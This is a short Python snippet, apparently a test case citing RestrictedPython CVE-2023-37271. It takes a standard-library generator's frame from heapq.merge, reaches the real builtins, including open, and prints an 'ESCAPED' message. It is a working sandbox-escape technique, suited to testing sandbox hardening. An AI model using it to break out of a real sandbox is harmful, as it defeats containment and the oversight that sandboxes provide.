# technique: a generator that the standard library made: its frame has the real builtins
# goal: frames
# source: RestrictedPython, CVE-2023-37271
import heapq
frame = heapq.merge([1], [2]).gi_frame
if frame.f_builtins['open'] and frame.f_globals['__name__'] == 'heapq':
    print('ESCAPED frame of', frame.f_code.co_name)
